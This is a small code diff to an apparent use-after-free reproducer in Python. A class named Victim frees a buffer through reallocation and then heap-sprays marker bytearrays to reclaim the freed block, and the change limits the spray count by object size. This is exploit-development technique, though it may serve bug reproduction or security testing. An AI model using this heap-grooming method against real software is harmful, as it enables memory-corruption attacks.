@@ -89,7 +89,8 @@ class Victim:
                 self.obj.close()
             else:
                 self.obj.extend(bytes(1 << 20))  # realloc far away; the old block is freed
-                self.spray = [bytearray([MARKER]) * self.size for _ in range(256)]
+                count = max(4, min(256, (16 << 20) // max(self.size, 1)))
+                self.spray = [bytearray([MARKER]) * self.size for _ in range(count)]
         except BufferError:
             return False
         self.freed = True
